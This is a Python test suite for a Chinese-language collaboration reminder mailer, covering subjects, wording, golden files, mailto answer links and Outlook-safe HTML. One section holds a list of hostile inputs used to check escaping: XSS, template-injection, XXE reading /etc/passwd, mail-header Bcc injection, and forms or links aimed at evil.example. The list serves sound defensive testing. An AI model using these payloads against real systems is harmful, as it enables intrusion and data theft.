"""What a mail says and how it is built: words, golden files, hostile texts, Outlook's limits."""

from __future__ import annotations

import os
import re
from dataclasses import replace
from datetime import date, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest

from addin.forms.reminders import Reminder
from mailer.delivery.composing import Mail, Settings, preview_reminders
from mailer.letters import wording
from mailer.letters.answer_links import AnswerDesk
from mailer.letters.outlook import cannot_show
from mailer.letters.render import Rendered, render
from mailer.planning.digests import Digest, plan_reminders
from mailer.planning.items import Collaboration, Telling
from mailer.planning.reminder_rules import Role
from tests.mailer.mail_samples import (
    BEIJING,
    NOW,
    TODAY,
    blocked,
    busy_day,
    collaboration,
    notice,
    overdue,
    task,
)

GOLDEN = Path(__file__).with_name("golden")


def digest_of(name: str, *collaborations: Collaboration, now: datetime = NOW) -> Digest:
    made = plan_reminders(collaborations, now=now, is_working_day=True)
    return next(digest for digest in made.digests if digest.recipient.name == name)


def mail_of(name: str, *collaborations: Collaboration) -> Rendered:
    return render(digest_of(name, *collaborations), sender="跨部门协作提醒")


# Golden files: XIEZUO_UPDATE_GOLDEN=1 pytest tests/mailer writes them anew ------------------------


def mails_of_the_busy_day() -> dict[str, Mail]:
    settings = Settings(desk=AnswerDesk("xiezuo@example.com", b"0" * 32))
    preview = preview_reminders(busy_day(), now=NOW, is_working_day=True, settings=settings)
    return {mail.digest.recipient.name: mail for mail in preview.mails}


@pytest.mark.parametrize("name", ["王芳", "赵敏"])
@pytest.mark.parametrize("kind", ["eml", "html", "txt"])
def test_mail__of_the_busy_day__is_the_golden_one(name: str, kind: str) -> None:
    mail = mails_of_the_busy_day()[name]
    actual = {
        "eml": mail.message,
        "html": mail.rendered.html.encode(),
        "txt": mail.rendered.text.encode(),
    }[kind]
    golden = GOLDEN / f"{mail.digest.recipient.address.partition('@')[0]}.{kind}"
    if os.environ.get("XIEZUO_UPDATE_GOLDEN") == "1":
        golden.write_bytes(actual)
    assert actual.decode() == golden.read_bytes().decode()


# Subject and first line --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tasks", "subject"),
    [
        (
            (overdue(3, 1), overdue(1, 2), task(3, due=date(2026, 11, 21), remaining_days=0)),
            "[XC20261120-001] 2项逾期、1项明日到期：新产品上市",
        ),
        ((task(remaining_days=0, due=TODAY),), "[XC20261120-001] 1项今日到期：新产品上市"),
        (
            (task(remaining_days=1, due=date(2026, 11, 23)),),
            "[XC20261120-001] 1项周一到期：新产品上市",
        ),
        (
            (task(remaining_days=1, due=date(2026, 11, 30)),),  # after a long holiday
            "[XC20261120-001] 1项11-30到期：新产品上市",
        ),
        (
            (task(1, remaining_days=2), task(2, remaining_days=3)),
            "[XC20261120-001] 2项即将到期：新产品上市",
        ),
        ((task(idle_days=3),), "[XC20261120-001] 1项未更新：新产品上市"),
    ],
)
def test_subject__of_the_owner__counts_each_task_once(
    tasks: tuple[wording.TaskLine, ...], subject: str
) -> None:
    assert mail_of("王芳", collaboration(*tasks)).subject == subject


def test_subject__several_collaborations__names_the_first_and_how_many() -> None:
    subject = mail_of("王芳", *busy_day()).subject
    assert subject == "[XC20261120-001]等2个协作项目 2项逾期、1项今日到期、1项周一到期"


def test_subject__long_title__is_cut_at_60_characters() -> None:
    subject = mail_of("王芳", collaboration(overdue(1), title="新产品上市" * 20)).subject
    assert len(subject) == 60
    assert subject.endswith("…")


def test_first_line__owner_and_copies__says_what_to_do_first() -> None:
    digest = digest_of(
        "李建国",
        collaboration(overdue(2, 1, owner="李建国"), overdue(1, 2), task(3, remaining_days=9)),
    )
    assert wording.headlines(digest) == [
        "请今天处理您负责的1项任务：1项逾期。",
        "请关注抄送给您的1项任务：1项逾期。",
    ]


def test_first_line__lead_of_a_blocked_task__says_until_when_to_coordinate() -> None:
    needed_by = datetime(2026, 11, 20, 13, tzinfo=BEIJING)
    tasks = (
        blocked(1, needed_by=needed_by),
        blocked(2, needed_by=needed_by + timedelta(hours=1)),
    )
    assert wording.headlines(digest_of("赵敏", collaboration(*tasks))) == [
        "请在11月20日（周五）13:00前组织协调2项受阻的任务。"
    ]
    html = mail_of("赵敏", collaboration(*tasks)).html
    assert "请组织协调会或线上沟通，须在11月20日（周五）14:00前" in html


def test_first_line__is_the_first_thing_in_text_and_under_the_title_bar_in_html() -> None:
    mail = mail_of("王芳", *busy_day())
    first = "请今天处理您负责的4项任务：2项逾期、1项今日到期、1项周一到期。"
    assert mail.text.splitlines()[0] == first
    assert mail.html.index(first) < mail.html.index("您负责的任务（4项）")


# Lines -------------------------------------------------------------------------------------------


def test_lines__own_and_copies__stand_under_their_headings() -> None:
    launch = collaboration(
        overdue(3, 1),
        overdue(1, 2, owner="李建国"),
        overdue(2, 3, owner="陈晓", department="研发部", partners=("市场部",), is_blocked=True),
    )
    text = mail_of("李建国", launch).text
    headings = [line for line in text.splitlines() if line.startswith("【")]
    assert headings == [
        "【您负责的任务（1项）】",
        "【抄送给您：您部门的任务（1项）】",
        "【抄送给您：需要您部门配合的任务（1项）】",
    ]
    assert "【抄送给您：您牵头的协作项目（2项）】" in mail_of("赵敏", launch).text
    assert "【抄送给您：您分管的协作项目（1项）】" in mail_of("高远", launch).text


@pytest.mark.parametrize("name", ["王芳", "李建国", "赵敏", "高远", "何静", "周明", "陈晓", "孙悦"])
def test_lines__each__says_why_the_reader_got_it_and_what_to_do(name: str) -> None:
    digest = digest_of(name, *busy_day())
    for line in digest.lines:
        assert re.fullmatch(r"您是.+，.+（N-\d\d）", wording.why(line))
        assert wording.actions(line, TODAY)
    assert mail_of(name, *busy_day()).text.count("为什么收到：") == len(digest.lines)


def test_lines__of_one_workbook_under_several_headings__show_its_path_and_button_once() -> None:
    launch = collaboration(overdue(1, 1, owner="李建国"), overdue(1, 2))
    mail = mail_of("李建国", launch)
    assert mail.text.count(launch.link) == mail.html.count(launch.link) == 1
    assert mail.html.count("打开协作工作簿") == 1
    assert mail.text.count("■ 新产品上市") == 2


def test_lines__of_a_workbook_that_others_cannot_open__show_its_path_and_no_button() -> None:
    launch = collaboration(overdue(1), link="/home/wang/协作/新产品.xlsx", is_shared=False)
    mail = mail_of("王芳", launch)
    assert "/home/wang/协作/新产品.xlsx" in mail.html
    assert "<a " not in mail.html


def test_lines__of_a_workbook_on_a_server__show_its_address_as_people_read_it() -> None:
    link = "https://oa.example.com/%E5%8D%8F%E4%BD%9C/%E6%96%B0%E4%BA%A7%E5%93%81.xlsx%0A%E5%81%87"
    mail = mail_of("王芳", collaboration(overdue(1), link=link))
    assert ">https://oa.example.com/协作/新产品.xlsx 假<" in mail.html
    assert f'href="{link}"' in mail.html
    assert link in mail.text, "there it has to stay an address that a program makes a link of"


def test_lines__overdue_and_not_updated__ask_for_one_update_only() -> None:
    line = digest_of("王芳", collaboration(overdue(1, idle_days=5))).lines[0]
    assert wording.actions(line, TODAY).count("更新") == 1
    assert "（N-11）" in wording.why(line)


def test_lines__of_a_stand_in__say_for_whom() -> None:
    launch = collaboration(overdue(1))
    people = tuple(
        replace(p, is_away=p.name == "王芳", stand_in="孙悦") for p in launch.directory.people
    )
    launch = replace(launch, directory=replace(launch.directory, people=people))
    line = digest_of("孙悦", launch).lines[0]
    assert wording.why(line) == (
        "王芳外出，您是其代理人；王芳是任务负责人，逾期后每个工作日提醒（N-08）"
    )
    assert "王芳 · 市场部" in mail_of("孙悦", launch).text


def test_lines__estimated_calendar__is_marked_and_explained() -> None:
    mail = mail_of("王芳", collaboration(overdue(1, calendar_note="估算")))
    assert "逾期：1个工作日（估算）" in mail.text
    assert "尚未公布" in mail.html
    assert "尚未公布" not in mail_of("王芳", collaboration(overdue(1))).html


def test_lines__another_year__shows_the_year() -> None:
    text = mail_of("王芳", collaboration(overdue(40, due=date(2025, 9, 26)))).text
    assert "截止：2025-09-26 周五" in text


# Answers -----------------------------------------------------------------------------------------

DESK = AnswerDesk("xiezuo@example.com", b"0" * 32)


def test_answers__stand_beside_own_tasks_only_in_html_and_text() -> None:
    launch = collaboration(overdue(1, 1, owner="李建国"), overdue(1, 2), overdue(1, 3))
    mail = render(digest_of("李建国", launch), sender="提醒", desk=DESK)
    links = [attrs["href"] for tag, attrs in Texts(mail.html).tags if "mailto" in str(attrs)]
    assert len(links) == 4
    assert all(str(link).startswith("mailto:xiezuo@example.com?subject=") for link in links)
    assert all(len(str(link)) < 800 for link in links), "Outlook takes 2 000, Gmail 100 KB a mail"
    assert "答复（完成、受阻、延期、稍后）：状态:完成 [XC" in mail.text
    assert "发邮件到xiezuo@example.com，主题照抄" in mail.text
    assert "-T02] #" not in mail.text
    assert "如何答复：" in mail.text
    assert "如何答复：" in mail.html


def test_answers__of_the_stand_in__are_links_too() -> None:
    launch = collaboration(overdue(1))
    people = tuple(
        replace(p, is_away=p.name == "王芳", stand_in="孙悦") for p in launch.directory.people
    )
    launch = replace(launch, directory=replace(launch.directory, people=people))
    mail = render(digest_of("孙悦", launch), sender="提醒", desk=DESK)
    assert mail.html.count("mailto:") == 4


def test_answers__a_pause__is_offered_once_and_explained() -> None:
    paused = overdue(1, paused_until=TODAY)
    mail = render(digest_of("王芳", collaboration(paused)), sender="提醒", desk=DESK)
    assert "稍后" not in mail.html + mail.text
    again = render(digest_of("王芳", collaboration(overdue(1))), sender="提醒", desk=DESK)
    assert all("最多3个工作日；逾期升级照常" in each for each in (again.html, again.text))


def test_answers__news__can_be_asked_for_once_a_week_and_daily_again() -> None:
    telling = Telling(role=Role.INFORMED, names=("赵敏",), because="您是协调人")
    launch = collaboration(notices=(notice(Reminder.FORM_APPROVED, tellings=[telling]),))
    weekly = replace(launch, weekly_readers=frozenset({"zhaomin@example.com"}))
    for each, often, other in (
        (launch, "可以改为", "每周告知"),
        (weekly, "按您的要求", "每天告知"),
    ):
        mail = render(digest_of("赵敏", each), sender="提醒", desk=DESK)
        said = f"只告知、不用您办理的情况，{often}每周最多一封，须办理的照常每天发。"
        assert said in mail.html
        assert said in mail.text
        assert re.findall(r"[每周天告知]{4}</a>", mail.html) == [f"{other}</a>"]
        assert f"情况:{other} [XC20261120-001-情况] #" in mail.text
    silent = render(digest_of("赵敏", launch), sender="提醒")
    assert "每周最多一封" not in silent.html + silent.text, "nobody would read the answer"


def test_answers__approval__is_given_by_the_one_who_is_asked_only() -> None:
    asked = notice(Reminder.APPROVAL, names=("高远",), answered_as="XC20261120-001-分管领导")
    copy = replace(asked.tellings[0], role=Role.INFORMED, names=("赵敏",))
    launch = collaboration(notices=(replace(asked, tellings=(*asked.tellings, copy)),))
    mail = render(digest_of("高远", launch), sender="提醒", desk=DESK)
    words = ["同意", "退回"]
    assert [each for each in words if f">{each}</a>" in mail.html] == words
    assert "答复（同意、退回）：审批:同意 [XC20261120-001-分管领导] #" in mail.text
    assert "点“同意、退回”会打开" in mail.html
    assert "mailto:" not in render(digest_of("赵敏", launch), sender="提醒", desk=DESK).html


@pytest.mark.parametrize("number", ["XC 1 [T]", "】", "x" * 61, "任务\r\n一"])
def test_answers__about_a_number_that_no_subject_can_hold__are_left_out(number: str) -> None:
    mail = render(
        digest_of("王芳", collaboration(task(id=number, remaining_days=0, due=TODAY))),
        sender="提醒",
        desk=DESK,
    )
    assert "mailto:" not in mail.html


# Hostile texts -----------------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><a href="https://evil.example">点这里</a>',
    "{{7*7}}",
    "{% for x in range(9) %}x{% endfor %}",
    "</style><style>*{display:none}",
    "--><!--[if mso]>",
    "&lt;b&gt;&amp;",
    "a\r\nBcc: x@evil.example",
    "a\u2028b\u2029c",
    "\u202egnp.exe",
    "\u2066隐藏\u2069",
    "\x00\x07\x1b[31m",
    "😀𠮷" * 40,
    "\ud800",
    "</td></tr></table><p>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=密码>",
    "<style>@import url(https://evil.example)</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<!-- ",
    "<![CDATA[",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://evil.example/"onmouseover=alert(1)',
    "//evil.example/x",
    "mailto:x@evil.example?bcc=y@evil.example",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{# 注释 #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(x)s %s {0} {x}",
    "a\nSubject: 假的",
    "a\r\n\r\n<b>正文</b>",
    "a\x0bb\x0cc\x85d",
    "=?utf-8?B?QmNjOiB4?=",
    '"王芳" <x@evil.example>,',
    "x@evil.example, y@evil.example",
    "\u200b\u200c\u200d\ufeff",
    "\u202d\u2067a\u2069\u202c",
    "e\u0301\u0301\u0301" * 30,
    "\uffff\ufffe",
    "\U0010ffff",
    "&#x3c;script&#x3e;",
    "＜script＞",
    "a" * 5_000,
]


class Texts(HTMLParser):
    """Gathers the text and the tags of a page."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.texts: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:40])
def test_hostile_text__anywhere__is_shown_as_text_and_changes_nothing_else(text: str) -> None:
    tame = collaboration(overdue(2, name="甲", problem="乙", measure="丙", block_type="丁"))
    wild = replace(
        tame,
        title=text,
        link=text,
        tracker=text,
        tasks=(
            replace(
                tame.tasks[0], name=text, problem=text, measure=text, block_type=text, status=text
            ),
        ),
    )
    mail = mail_of("王芳", wild)
    expected, actual = Texts(mail_of("王芳", tame).html), Texts(mail.html)
    structure = [(tag, attrs.get("class")) for tag, attrs in actual.tags if tag not in ("a",)]
    assert [tag for tag, _ in structure if tag in ("script", "img", "style", "iframe", "form")] == [
        "style"
    ]
    assert (
        len([t for t in actual.tags if t[0] == "tr"])
        >= len([t for t in expected.tags if t[0] == "tr"]) - 2
    )  # no button where there is no link
    assert not any(name.startswith("on") for _, attrs in actual.tags for name in attrs)
    for address in (attrs["href"] for tag, attrs in actual.tags if tag == "a"):
        assert address
        assert address.startswith(("https://", "file:"))
    for marks in (mail.subject, mail.text.replace("\n", ""), "".join(actual.texts)):
        assert not re.search(r"[\x00-\x08\x0b-\x1f\u202a-\u202e\u2066-\u2069\u2028\u2029]", marks)
    assert "\n" not in mail.subject
    assert "49" not in "".join(actual.texts).replace("2026", "")
    mail.html.encode()


def test_hostile_text__tags__are_readable_as_they_were_typed() -> None:
    html = mail_of("王芳", collaboration(overdue(1, name="<b>{{7*7}}</b>"))).html
    assert "<b>{{7*7}}</b>" in Texts(html).texts


def test_preview_page__hostile_text__stays_inside_its_frame() -> None:
    preview = preview_reminders(
        [collaboration(overdue(1, name='"></iframe><script>alert(1)</script>'))],
        now=NOW,
        is_working_day=True,
    )
    tags = Texts(preview.page()).tags
    assert "script" not in {tag for tag, _ in tags}
    frames = [attrs for tag, attrs in tags if tag == "iframe"]
    assert [frame["sandbox"] for frame in frames] == [""] * len(preview.mails)
    assert [frame["title"] for frame in frames] == [m.rendered.subject for m in preview.mails]


# What Outlook and phones can show ----------------------------------------------------------------


def test_html__for_outlook__has_tables_inline_styles_and_nothing_from_afar() -> None:
    mail = mail_of("赵敏", *busy_day())
    page = Texts(mail.html)
    assert cannot_show(mail.html) == ()
    assert not [attrs for _, attrs in page.tags if "src" in attrs or "background" in attrs]
    cells = [attrs for tag, attrs in page.tags if tag in ("td", "th") and attrs.get("class")]
    assert all("style" in attrs for attrs in cells)
    headers = [tag for tag, _ in page.tags].count("th")
    tables = sum(attrs.get("class") == "tasks" for _, attrs in page.tags)
    assert headers == 5 * tables  # at most 7 columns
    assert '<meta name="color-scheme" content="light dark">' in mail.html
    assert 'width="640"' in mail.html


def test_html__fonts__are_those_of_the_design() -> None:
    families = set(
        re.findall(r"font-family: ([^;\"]+(?:&quot;)?[^;\"]*)", mail_of("王芳", *busy_day()).html)
    )
    assert len(families) == 1
    assert "Microsoft YaHei" in next(iter(families)).replace("'", "")


def test_html__every_colour_pair__can_be_read() -> None:
    pairs = {
        (flag.shade.ink, flag.shade.fill)
        for name in ("王芳", "赵敏", "孙悦")
        for line in digest_of(name, *busy_day()).lines
        for flag in wording.flags(line, TODAY)
    }
    pairs |= {("#FFFFFF", "#1F4E79"), ("#1F4E79", "#DCE6F1"), ("#595959", "#FFFFFF")}
    pairs |= {("#595959", "#F5F7FA"), ("#E8E8E8", "#1F1F1F"), ("#FF7875", "#1F1F1F")}
    assert {pair: round(_contrast(*pair), 1) for pair in pairs if _contrast(*pair) < 4.5} == {}


def _contrast(one: str, other: str) -> float:
    bright, dark = sorted((_luminance(one), _luminance(other)), reverse=True)
    return (bright + 0.05) / (dark + 0.05)


def _luminance(colour: str) -> float:
    channels = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
    linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]
